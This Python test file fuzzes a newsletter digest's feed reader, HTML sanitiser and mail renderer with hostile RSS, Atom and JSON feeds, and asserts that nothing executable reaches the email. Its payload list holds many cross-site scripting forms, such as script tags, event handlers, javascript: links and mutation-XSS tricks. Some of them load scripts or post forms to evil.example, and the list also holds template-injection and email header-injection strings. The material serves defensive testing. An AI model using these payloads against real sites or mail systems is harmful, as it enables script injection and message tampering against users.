"""A hostile feed, from its bytes to the mail: nothing in it acts, whatever it holds."""

import json
import unicodedata
from collections.abc import Iterator
from dataclasses import fields, replace
from datetime import UTC, date, datetime
from xml.sax.saxutils import escape

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from selectolax.lexbor import LexborHTMLParser, LexborNode

from digest.feed.clean import clean
from digest.feed.read import read
from digest.model import Article, LedgerArticle, Picture, Rendering
from digest.render import Edition, render

NOW = datetime(2026, 11, 24, 3, 0, tzinfo=UTC)
URL = "https://ledger.example/feed/"
NONCE = "0123456789abcdef"
MARK = "zqx"
"""Stands in every script of the strangers: it must never stand where a browser would run it."""

# Single pieces, to be put together in any order, and whole samples of known tricks.
PIECES = [
    f"<script>{MARK}()</script>",
    f"<script src='https://evil.example/{MARK}.js'></script>",
    f"<img src=x onerror={MARK}()>",
    f"<img src=`x`onerror={MARK}()>",
    f"<svg/onload={MARK}()>",
    f"<svg><style><img src=x onerror={MARK}()></style></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={MARK}()&gt;">',
    f'<noscript><p title="</noscript><img src=x onerror={MARK}()>">',
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={MARK}()>",
    f'<a href="javascript:{MARK}()">x</a>',
    f'<a href="java\tscript:{MARK}()">x</a>',
    f'<a href="&#x6A;avascript&colon;{MARK}()">x</a>',
    f"<a href='data:text/html;base64,{MARK}'>x</a>",
    f"<iframe srcdoc='<script>{MARK}()</script>'></iframe>",
    f"<iframe src='javascript:{MARK}()'></iframe>",
    f"<object data='data:text/html,{MARK}'></object>",
    f"<embed src='javascript:{MARK}()'>",
    f"<form action='https://evil.example/{MARK}'><input autofocus onfocus={MARK}()><button>x</button></form>",
    f"<style>@import 'https://evil.example/{MARK}.css';</style>",
    f"<link rel=stylesheet href='https://evil.example/{MARK}.css'>",
    f"<base href='https://evil.example/{MARK}/'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{MARK}()'>",
    f'<p style="background:url(\'javascript:{MARK}()\')" onclick="{MARK}()">x</p>',
    f"<video src=x onerror={MARK}()><source onerror={MARK}()></video>",
    f"<details open ontoggle={MARK}()>x</details>",
    f"<xmp><img src=x onerror={MARK}()></xmp>",
    f"<!--><script>{MARK}()</script>-->",
    f"<![CDATA[<script>{MARK}()</script>",
    f"]]><script>{MARK}()</script>",
    f'"><script>{MARK}()</script>',
    f"' onmouseover='{MARK}()",
    f'" style="x:expression({MARK}())',
    f"javascript:{MARK}()",
    f"</title></style></textarea><script>{MARK}()</script>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{MARK}()&amp;lt;/script&amp;gt;",
    f"&#60;script&#62;{MARK}()&#60;/script&#62;",
    f"{{{{ cycler.__init__ }}}}{{% raw %}}{MARK}",
    f"https://slot.invalid/{'f' * 16}/unsubscribe_url/{MARK}",
    f"\r\nBcc: {MARK}@evil.example\r\n\r\n",
    *(
        "<p>",
        "</p>",
        "<table>",
        "<b>",
        "</b>",
        "<noscript>",
        "<template>",
        "<select>",
        "<plaintext>",
        "<!--",
        "-->",
    ),
    *(
        "\x00",
        "\x0b",
        "\x1b[31m",
        "\x7f",
        "\x85",
        "\u2028",
        "\u202e",
        "\u2066",
        "\ufeff",
        "\ufffe",
        "\U000e0041",
    ),
    *(
        "&",
        "<",
        ">",
        '"',
        "'",
        "`",
        "=",
        "/",
        "\\",
        " ",
        "\n",
        "é",
        "🎉",
        "words of a plain text",
        "&#0;",
        "&#xD800;",
    ),
]
FRAGMENTS = st.lists(st.sampled_from(PIECES), min_size=1, max_size=6).map("".join)
ADDRESSES = st.one_of(
    FRAGMENTS,
    FRAGMENTS.map(lambda text: f"https://ledger.example/{text}"),
    FRAGMENTS.map(lambda text: f"//{text}@ledger.example:x/"),
)
STORY = {
    "title": FRAGMENTS,
    "author": FRAGMENTS,
    "category": FRAGMENTS,
    "description": FRAGMENTS,
    "body": FRAGMENTS,
    "link": ADDRESSES,
    "guid": FRAGMENTS,
    "picture": ADDRESSES,
    "alt": FRAGMENTS,
}
STORIES = st.fixed_dictionaries(STORY)

NAMESPACES = (
    'xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/"'
    ' xmlns:media="http://search.yahoo.com/mrss/"'
)


def rss(story: dict[str, str], *, raw: bool) -> bytes:
    """As a careful feed writes it, or with everything as it comes, which is mostly broken XML."""
    said = story if raw else {name: escape(text, {'"': "&quot;"}) for name, text in story.items()}
    alt = f"<media:description>{said['alt']}</media:description>"
    media = f'<media:content medium="image" url="{said["picture"]}">{alt}</media:content>'
    item = (
        f"<title>{said['title']}</title><link>{said['link']}</link><guid>{said['guid']}</guid>"
        f"<dc:creator>{said['author']}</dc:creator><category>{said['category']}</category>"
        f"<description>{said['description']}</description>"
        f"<content:encoded>{said['body']}<p>{said['body']}</p></content:encoded>{media}"
    )
    channel = f"<channel><title>{said['title']}</title><item>{item}</item></channel>"
    return f"<rss version='2.0' {NAMESPACES}>{channel}</rss>".encode()


def atom(story: dict[str, str]) -> bytes:
    said = {name: escape(text, {'"': "&quot;"}) for name, text in story.items()}
    entry = (
        f"<title type='html'>{said['title']}</title><id>{said['guid']}</id><link href=\"{said['link']}\"/>"
        f'<author><name>{said["author"]}</name></author><category term="{said["category"]}"/>'
        f"<summary type='html'>{said['description']}</summary><content type='html'>{said['body']}</content>"
    )
    return f"<feed xmlns='http://www.w3.org/2005/Atom'><title>x</title><entry>{entry}</entry></feed>".encode()


def json_feed(story: dict[str, str]) -> bytes:
    item = {
        "id": story["guid"],
        "url": story["link"],
        "title": story["title"],
        "authors": [{"name": story["author"]}],
        "tags": [story["category"]],
        "summary": story["description"],
        "content_html": story["body"],
        "image": story["picture"],
    }
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "items": [item]}).encode()


def ledger(article: Article, number: int) -> LedgerArticle:
    own = {field.name: getattr(article, field.name) for field in fields(Article)}
    return LedgerArticle(id=number, feed_url=URL, first_seen_at=NOW, **own)


def mailed(*articles: Article) -> Rendering:
    edition = Edition(
        site_name="The Harbour Ledger",
        site_url="https://ledger.example",
        language="en",
        postal_address="12 Quay Street, Port Averell",
        contact="editor@ledger.example",
        newsletter_name="daily",
        newsletter_title="The Daily Ledger",
        subject_template="{{ articles[0].title }}",
        day=date(2026, 11, 24),
        articles=tuple(ledger(article, number) for number, article in enumerate(articles, 1)),
        link_params="utm_source=digest",
    )
    return render(edition, nonce=NONCE)


def nodes(html: str) -> Iterator[LexborNode]:
    root = LexborHTMLParser(html).root
    assert root is not None
    yield from root.traverse(include_text=True)


PLAIN = Article(
    guid="1",
    link="https://ledger.example/1/",
    title="Dredging",
    published_at=NOW,
    author="Ada",
    categories=("Port",),
    excerpt="It was dredged.",
    picture=Picture(url="https://ledger.example/1.jpg", alt="Cranes", width=1200, height=800),
    comments=3,
    words=400,
)
HARMLESS = list(
    nodes(
        mailed(
            *[replace(PLAIN, guid=str(n)) for n in range(6)], replace(PLAIN, picture=None, excerpt="")
        ).html
    )
)
TAGS = {node.tag for node in HARMLESS}
ATTRIBUTES = {name for node in HARMLESS if node.is_element_node for name in node.attributes}
STYLES = {node.text() for node in HARMLESS if node.tag == "style"}


def check_html(html: str) -> None:
    """Whatever the mail has, our own templates have too; what strangers wrote is text, or an address."""
    for node in nodes(html):
        assert node.tag in TAGS
        if not node.is_element_node:
            assert node.tag == "-text" or MARK not in (node.html or "")
            continue
        assert set(node.attributes) <= ATTRIBUTES
        assert node.tag != "style" or node.text() in STYLES
        for name, value in node.attributes.items():
            assert not name.startswith("on")
            if name in {"href", "src"}:
                assert (value or "").startswith(("https://", "http://", "mailto:"))
            elif name not in {"alt", "title", "content"}:
                assert MARK not in (value or "")


def check_line(text: str) -> None:
    assert not any(unicodedata.category(character) in {"Cc", "Cs", "Zl", "Zp"} for character in text)
    assert not set(text) & set("\u202a\u202b\u202d\u202e\u2066\u2067\u2068")


def check(body: bytes) -> None:
    articles = read(body, {"content-type": "text/xml"}, url=URL, now=NOW).articles
    for article in articles:
        for line in (article.title, article.author, article.excerpt, *article.categories, article.link):
            check_line(line)
        addresses = [article.link, *([article.picture.url] if article.picture else [])]
        assert all(address.startswith(("https://", "http://")) for address in addresses)
        assert not any(set(address) & set('"<>` \\') for address in addresses)
    if not articles:
        return
    mail = mailed(*articles, *articles)
    check_html(mail.html)
    for line in (mail.subject, mail.preheader, *mail.text.split("\n")):
        check_line(line)


WORST = dict.fromkeys(STORY, "".join(PIECES[:40]))


@given(STORIES)
@example(WORST)
@settings(deadline=None, max_examples=15)
def test_nothing_in_a_careful_feed_acts_in_a_mail(story: dict[str, str]) -> None:
    check(rss(story, raw=False))


@given(STORIES)
@settings(deadline=None, max_examples=8)
def test_nothing_in_a_careless_feed_acts_in_a_mail(story: dict[str, str]) -> None:
    check(rss(story, raw=True))


@given(STORIES)
@example(WORST)
@settings(deadline=None, max_examples=8)
def test_nothing_in_an_atom_feed_acts_in_a_mail(story: dict[str, str]) -> None:
    check(atom(story))


@given(STORIES)
@example(WORST)
@settings(deadline=None, max_examples=8)
def test_nothing_in_a_json_feed_acts_in_a_mail(story: dict[str, str]) -> None:
    check(json_feed(story))


@given(FRAGMENTS)
@example("".join(PIECES[:40]))
@settings(deadline=None, max_examples=150)
def test_nothing_in_a_cleaned_body_acts(html: str) -> None:
    cleaned = clean(html, base="https://ledger.example/a/").html
    # A browser parses what a sanitiser wrote once more, and must find the same.
    for text in (cleaned, clean(cleaned, base="https://ledger.example/a/").html):
        for node in nodes(text):
            assert node.tag not in {
                "script",
                "style",
                "iframe",
                "form",
                "input",
                "button",
                "svg",
                "math",
                "object",
            }
            if not node.is_element_node:
                assert node.tag == "-text"
                continue
            assert not any(name.startswith("on") or name == "style" for name in node.attributes)
            for name in ("href", "src"):
                value = node.attributes.get(name)
                assert value is None or value.startswith(("https://", "http://", "mailto:", "tel:"))


@pytest.mark.parametrize(
    "part", [*PIECES[:3], PIECES[9], PIECES[11], PIECES[14], "<p title='x'>", "<form>", "<!-- zqx -->"]
)
def test_what_acts_would_be_seen(part: str) -> None:
    page = mailed(PLAIN).html
    check_html(page)
    with pytest.raises(AssertionError):
        check_html(page.replace("It was dredged.", part, 1))
